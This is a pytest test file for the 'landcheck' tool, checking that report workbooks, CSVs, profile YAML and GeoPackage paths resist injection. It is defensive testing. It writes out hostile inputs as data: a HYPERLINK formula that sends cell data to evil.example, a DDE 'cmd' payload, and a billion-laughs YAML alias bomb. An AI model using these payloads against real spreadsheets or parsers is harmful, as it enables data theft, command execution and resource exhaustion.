"""Nothing injected (docs/reliability.md §2): report.xlsx cells, profile YAML, SQLite URIs.

Every case asserts what a reviewer can check: the cell type and exact text in the
workbook (and that its XML holds no formula), the exit code, the time and memory a
hostile profile costs, and that a GeoPackage named with ``%41``, ``?`` or ``#`` is
read exactly, with no file created next to it.
"""

from __future__ import annotations

import hashlib
import os
import re
import resource
import shutil
import sqlite3
import subprocess
import sys
import tracemalloc
import zipfile

import openpyxl
import pytest
from common import frame, sites, square
from openpyxl.utils.escape import unescape

import landcheck
from landcheck.errors import SHOWN_CHARS, ProfileError
from landcheck.io.filtered import _gpkg_rtree
from landcheck.io.gpkg_rows import open_read_only
from landcheck.io.profiles import MAX_YAML_NODES, builtin_profile_text, profile_from_yaml
from landcheck.report import write_report
from landcheck.report.xlsx import xlsx_text

# ---------------------------------------------------------------------------------------
# 7. report.xlsx: text from inputs is a text cell, never a formula

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点击")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+2",
    "\r=1+3",
    "_x0041_",
]
"""Classic spreadsheet payloads: formula starts, a leading tab and carriage return, and
a literal OOXML escape (which Excel would otherwise read as "A")."""


@pytest.fixture(scope="module")
def workbook(tmp_path_factory):
    """A report whose site ids, names and farmland ids and names are all payloads.

    Site i is 200 x 100 m at x = 300·i; farmland feature i covers its left 100 x 100 m,
    so each site takes exactly 1 ha of farmland.
    """
    n = len(PAYLOADS)
    site = sites(*[square(300 * i, 0, 200, 100) for i in range(n)], name=PAYLOADS[::-1])
    site["site_id"] = PAYLOADS
    farmland = frame(
        [
            {"BSM": p, "DLBM": "0101", "DLMC": p, "geometry": square(300 * i, 0, 100)}
            for i, p in enumerate(PAYLOADS)
        ]
    )
    result = landcheck.check(site, layers={"farmland": farmland}, area_method="planar")
    folder = tmp_path_factory.mktemp("xlsx") / "report"
    path = write_report(result, folder, formats="xlsx")["xlsx"]
    book = openpyxl.load_workbook(path)
    yield path, book
    book.close()


def text_cells(book):
    cells = (c for sheet in book.worksheets for row in sheet.iter_rows() for c in row)
    return [c for c in cells if c.value is not None]


def test_every_text_cell_is_a_string_cell_and_formula_starts_are_quote_prefixed(workbook):
    _, book = workbook
    cells = text_cells(book)
    texts = [c for c in cells if isinstance(c.value, str)]
    assert len(texts) > 100
    assert {c.data_type for c in texts} == {"s"}
    risky = [c for c in texts if unescape(c.value).startswith(("=", "+", "-", "@", "\t", "\r"))]
    # every payload but the literal escape shows up in the sites, farmland and findings
    assert len(risky) > 7 * 8
    assert all(c.quotePrefix for c in risky)


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_payload_is_stored_as_exactly_that_text(workbook, payload):
    _, book = workbook
    cells = text_cells(book)
    if "\r" in payload or "_x" in payload:
        # XML would turn a bare CR into LF, and Excel reads _xHHHH_ as an escape:
        # both are written as Excel writes them, which reads back exactly
        stored = xlsx_text(payload)
        assert stored != payload and unescape(stored) == payload
        assert not [c for c in cells if c.value == payload]
    else:
        stored = payload
    holding = [c for c in cells if c.value == stored]
    assert holding
    assert {c.data_type for c in holding} == {"s"}


def test_sheet_xml_holds_no_formula_element(workbook):
    path, _ = workbook
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(archive.read(n).decode("utf-8") for n in sheets)
    assert len(sheets) >= 10
    assert re.search(r"<f[\s>/]", xml) is None
    assert "=cmd|' /C calc'!A0" in xml and 't="inlineStr"' in xml


def test_numbers_stay_numbers(workbook):
    _, book = workbook
    sheet = book["永久基本农田"]
    headers = [c.value for c in sheet[2]]
    column = headers.index("平面面积（公顷）")
    areas = [row[column] for row in sheet.iter_rows(min_row=3) if row[column].value is not None]
    assert areas and {c.data_type for c in areas} == {"n"}
    assert {c.value for c in areas} == {1.0}


def test_xlsx_text_escapes_what_xml_cannot_carry():
    assert xlsx_text("a\r\nb\x01c") == "a_x000D_\nb_x0001_c"
    assert xlsx_text("_x005F_ and _xZZZZ_") == "_x005F_x005F_ and _xZZZZ_"
    for text in ("a\r\nb\x01c", "_x0041_", "\t=1", "plain 文本"):
        assert unescape(xlsx_text(text)) == text


def test_selection_csv_texts_are_never_formulas(tmp_path):
    """The selection folders' CSV tables (UTF-8 with BOM, for spreadsheet programs) write a
    text that would start a formula with a leading apostrophe; other texts and the numbers
    are written as they are."""
    import csv

    from landcheck.report.selection import write_comparison

    starts = ("=", "+", "-", "@", "\t", "\r")
    n = len(PAYLOADS) - 1  # the OOXML escape starts no formula
    site = sites(*[square(300 * i, 0, 200, 100) for i in range(n)], name=PAYLOADS[:n][::-1])
    site["site_id"] = PAYLOADS[:n]
    # two 1 m squares far from the sites make the farmland's extent (what it describes) hold them
    far = [square(-1500, -1500, 1), square(300 * n + 1500, 1500, 1)]
    farmland = frame(
        [
            {"BSM": f"F{i + 1}", "DLBM": "0101", "geometry": g}
            for i, g in enumerate([square(0, 0, 100), *far])
        ]
    )
    compared = landcheck.compare(site, layers={"farmland": farmland}, area_method="planar")
    write_comparison(compared, tmp_path / "cmp")
    with open(tmp_path / "cmp" / "comparison.csv", encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    table = compared.table  # ids and names as landcheck reads them (stripped)
    assert all(str(v).startswith(starts) for v in [*table["site_id"], *table["name"]])
    assert [r["site_id"] for r in rows] == ["'" + v for v in table["site_id"]]
    assert [r["name"] for r in rows] == ["'" + v for v in table["name"]]
    texts = [v for r in rows for k, v in r.items() if k not in ("site_id", "name")]
    assert not any(v.startswith(starts) for v in texts if not _number(v)), texts
    by_id = {r["site_id"]: r for r in rows}
    assert float(by_id["'" + PAYLOADS[0]]["farmland_ha"]) == 1.0  # 100 x 100 m of farmland
    assert float(by_id["'" + PAYLOADS[1]]["farmland_ha"]) == 0.0


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


# ---------------------------------------------------------------------------------------
# 8. Profile YAML: alias bombs, capped messages, capped format widths


def billion_laughs() -> str:
    """The classic alias bomb: 9 levels of 9 aliases, 9^9 = 387,420,489 "lol"s."""
    lines = ["schema: landcheck/profile@1", "name: billion-lol", 'version: "12"']
    lines.append("a: &a [" + ",".join(['"lol"'] * 9) + "]")
    for previous, key in zip("abcdefg", "bcdefgh", strict=True):
        lines.append(f"{key}: &{key} [" + ",".join([f"*{previous}"] * 9) + "]")
    lines.append("title: [" + ",".join(["*h"] * 9) + "]")
    return "\n".join(lines) + "\n"


def _limited_memory():  # pragma: no cover - runs in the child process
    limit = 1 << 30
    resource.setrlimit(resource.RLIMIT_AS, (limit, limit))


def _landcheck(*args: str) -> subprocess.CompletedProcess:
    """Run the ``landcheck`` command with 1 GB of address space."""
    command = [os.path.join(os.path.dirname(sys.executable), "landcheck"), *args]
    return subprocess.run(
        command,
        capture_output=True,
        text=True,
        timeout=300,  # only so that a hang fails instead of blocking the suite
        preexec_fn=_limited_memory,
        check=False,
    )


def test_alias_bomb_ends_in_exit_1_in_1_gb(tmp_path, write_gpkg):
    """The CLI in a subprocess limited to 1 GB of address space.

    A bomb built before it is refused would need gigabytes and die of ``MemoryError``
    (a traceback, not exit 1); refused from its node count it ends like a profile with
    one ordinary mistake.
    """
    data = write_gpkg(sites=sites(square(0, 0, 100)))
    bomb = tmp_path / "bomb.yaml"
    bomb.write_text(billion_laughs(), encoding="utf-8")
    typo = tmp_path / "typo.yaml"
    typo.write_text(builtin_profile_text("china-preexam") + "colour: red\n", encoding="utf-8")

    def run(profile, out):
        return _landcheck("check", f"{data}:sites", "--profile", str(profile), "-o", str(out))

    baseline = run(typo, tmp_path / "r0")
    assert baseline.returncode == 1, baseline.stderr
    assert "unknown top-level key 'colour'" in baseline.stderr
    done = run(bomb, tmp_path / "r1")
    assert done.returncode == 1, done.stderr
    assert "expands to more than 100,000 values" in done.stderr
    assert "alias" in done.stderr and "Traceback" not in done.stderr
    assert len(done.stderr) < 400
    assert not (tmp_path / "r1").exists()


def within_an_ordinary_profiles_cost(call, *args, **kwargs):
    """Call ``call`` and assert it allocates no more than reading a profile does.

    Memory is the sharp measure, and it does not depend on how busy the machine is: a
    billion laughs or a 10⁹-character field would take gigabytes, and tracemalloc counts
    every byte Python allocates (reading the built-in profile peaks at a few MB).
    """
    tracemalloc.start()
    try:
        return call(*args, **kwargs)
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        assert peak < 20_000_000, f"{peak:,} bytes allocated"


def test_alias_bomb_is_refused_before_it_is_built():
    bomb = billion_laughs()
    assert len(bomb.encode("utf-8")) == 403  # the file docs/reliability.md speaks of
    with pytest.raises(ProfileError, match="once its aliases") as caught:
        within_an_ordinary_profiles_cost(profile_from_yaml, bomb, origin="bomb.yaml")
    assert caught.value.problems == [
        f"the YAML expands to more than {MAX_YAML_NODES:,} values once its aliases (*name) "
        "are resolved (an alias bomb?); write the values out, or use fewer aliases"
    ]


def test_merge_key_bomb_and_self_reference_are_refused():
    merge = ["a: &a {x: 1, y: 2, z: 3}"]
    for previous, key in zip("abcdefghijk", "bcdefghijkl", strict=True):
        merge.append(f"{key}: &{key} {{<<: [" + ", ".join([f"*{previous}"] * 9) + "]}")
    with pytest.raises(ProfileError, match="once its aliases"):
        profile_from_yaml("\n".join(merge) + "\n", origin="merge.yaml")
    with pytest.raises(ProfileError, match="nests more than 50 levels deep"):
        profile_from_yaml("title: &a [x, *a]\n", origin="loop.yaml")
    with pytest.raises(ProfileError, match="nests more than 50 levels deep"):
        profile_from_yaml("title: " + "[" * 60 + "]" * 60 + "\n", origin="deep.yaml")


def test_a_few_aliases_still_work():
    text = builtin_profile_text("china-preexam")
    text = text.replace("never_types: [", "never_types: &arrays [")
    text = text.replace("array_types: [", "array_types: *arrays\n      # [")
    profile = profile_from_yaml(text, origin="aliases")
    rules = {rule.id: rule for rule in profile.rules}
    farmland, pv = rules["permanent_farmland"], rules["pv_siting"]
    assert pv.params["array_types"] == farmland.params["never_types"] == ["pv_array"]


def test_values_quoted_in_messages_are_capped():
    big = "x" * 1_000_000
    text = (
        "schema: landcheck/profile@1\nname: big\nversion: '1'\n"
        f"title: [{big}]\nanalysis: {{crs: auto, area_method: '{big}', sliver: {{area_m2: "
        f"'{big}'}}}}\nlayers: {{farmland: {{kind: '{big}'}}}}\n"
    )
    with pytest.raises(ProfileError) as caught:
        profile_from_yaml(text, origin="big.yaml")
    problems = caught.value.problems
    assert len(problems) == 5  # the four big values, and no rule
    assert problems[-1].startswith("rules: no rule is given")
    # each problem quotes at most SHOWN_CHARS of the value, plus its own words (the longest
    # lists the valid layer kinds)
    assert all(len(p) < SHOWN_CHARS + 350 for p in problems), [len(p) for p in problems]
    assert len(str(caught.value)) < 2_000
    assert any(p.startswith("analysis.area_method: unknown area method 'xxx") for p in problems)


@pytest.mark.parametrize(
    ("template", "problem"),
    [
        ("{area_ha:>999999999.4f}", "width and precision must be at most 50"),
        ("{area_ha:.51f}", "width and precision must be at most 50"),
        ("{site_id:^1000}", "width and precision must be at most 50"),
        ("{area_ha:{site_id}}", "is not a plain spec"),
        ("{area_ha:.4q}", "is not a plain spec"),
    ],
)
def test_format_spec_widths_are_capped(template, problem):
    text = builtin_profile_text("china-preexam").replace(
        "en: The site does not take permanent basic farmland.", f'en: "{template}"'
    )
    with pytest.raises(ProfileError) as caught:
        within_an_ordinary_profiles_cost(profile_from_yaml, text, origin="wide.yaml")
    (message,) = caught.value.problems
    assert message.startswith("rules[0] (permanent_farmland): outcomes.not_involved.en: ")
    assert problem in message


def test_plain_format_specs_are_accepted():
    text = builtin_profile_text("china-preexam").replace(
        "en: The site does not take permanent basic farmland.",
        'en: "{area_ha:>12,.4f} ha, {share_pct:.2f}%, {site_id!r:<50}"',
    )
    profile = profile_from_yaml(text, origin="plain.yaml")
    outcome = profile.rules[0].outcomes["not_involved"]
    assert outcome.message.en == "{area_ha:>12,.4f} ha, {share_pct:.2f}%, {site_id!r:<50}"


# ---------------------------------------------------------------------------------------
# 9. GeoPackages named with %41, ? or #: exactly that file, read-only, nothing created


def digest(path) -> str:
    with open(path, "rb") as handle:
        return hashlib.sha256(handle.read()).hexdigest()


def listing(folder) -> dict[str, str]:
    return {name: digest(os.path.join(folder, name)) for name in sorted(os.listdir(folder))}


@pytest.fixture
def farm_folder(tmp_path, write_gpkg):
    """``farmA.gpkg``: farmland 10 km away; ``farmland.gpkg``: 200 x 240 m over the site.

    The site is 200 x 400 m, so the true farmland overlap is 48,000 m² (4.8 ha); reading
    the decoy's R-tree for the right file's features would find none (0 ha).
    """
    near = frame([{"BSM": "F1", "DLBM": "0101", "geometry": square(0, 100, 200, 240)}])
    far = frame([{"BSM": "F9", "DLBM": "0101", "geometry": square(10_000, 0, 200)}])
    write_gpkg("farmA.gpkg", farmland=far)
    write_gpkg("farmland.gpkg", farmland=near)
    return tmp_path


@pytest.mark.parametrize("name", ["farm%41.gpkg", "farm?.gpkg", "farm#.gpkg", "farm%3F x.gpkg"])
def test_gpkg_with_uri_characters_is_read_exactly_and_nothing_is_created(farm_folder, name):
    path = farm_folder / name
    shutil.move(farm_folder / "farmland.gpkg", path)
    before = listing(farm_folder)
    site = sites(square(0, 0, 200, 400))
    result = landcheck.check(site, layers={"farmland": str(path)}, area_method="planar")
    assert result.layer_area("S1", "farmland").planar_m2 == pytest.approx(48_000.0, rel=1e-12)
    assert result.status("S1") == "prohibited"
    assert listing(farm_folder) == before
    # the fast path read this file's own R-tree
    assert _gpkg_rtree(str(path), "farmland") == ("rtree_farmland_geom", "geom")
    assert listing(farm_folder) == before


@pytest.mark.parametrize("name", ["farm?.gpkg", "farm#.gpkg", "farm%41.gpkg"])
def test_opening_a_missing_gpkg_creates_nothing(tmp_path, name):
    (tmp_path / "farmA.gpkg").write_bytes(b"")
    with pytest.raises(sqlite3.OperationalError, match="unable to open"):
        with open_read_only(str(tmp_path / name)) as con:
            con.execute("SELECT 1 FROM sqlite_master")
    assert os.listdir(tmp_path) == ["farmA.gpkg"]
